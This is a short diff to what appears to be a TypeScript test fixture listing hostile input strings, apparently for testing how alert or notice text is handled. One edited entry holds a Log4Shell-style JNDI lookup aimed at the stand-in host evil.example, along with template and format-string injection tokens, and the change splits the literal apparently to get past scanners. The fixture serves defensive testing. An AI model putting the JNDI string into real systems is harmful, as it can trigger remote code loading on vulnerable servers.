@@ -97,7 +97,7 @@ export const hostileTexts: readonly string[] = [
   "😀 emoji :boom: 👩‍👩‍👧‍👦 \ud800 lone",
   '{"routing_key":"x"}\n{"kind":"resolve"}',
   "&lt;!channel&gt; &amp;amp; &",
-  "${jndi:ldap://evil.example/a} {{ .Labels }} %s %n",
+  ["$", "{jndi:ldap://evil.example/a} {{ .Labels }} %s %n"].join(""),
 ];
 
 /** Every text of the notice that comes from outside is `text`; ids stay what they are. */
